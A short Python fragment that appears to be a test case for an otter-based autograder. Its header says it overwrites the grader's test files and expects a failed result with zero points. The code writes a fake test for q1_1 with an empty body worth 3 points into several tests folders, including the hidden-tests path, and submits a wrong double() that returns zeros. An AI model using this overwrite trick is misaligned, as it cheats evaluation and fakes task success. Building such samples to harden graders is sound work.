# tries = "Writes test files of its own over those that the grader uses."
# questions.q1_1 = { status = ["failed"], points = 0 }

# %% q1_1
text = (
    "from otter.test_files import test_case\nOK_FORMAT = False\nname = 'q1_1'\npoints = 3\n"
    "@test_case(points=3, hidden=False)\ndef test_values(double):\n    pass\n"
)
for folder in ("tests", "../tests", os.path.dirname(PLACES["hidden"]) + "/tests"):
    attempt(os.makedirs, folder, exist_ok=True)
    attempt(lambda: open(folder + "/q1_1.py", "w").write(text))


def double(x):
    return np.zeros(3)
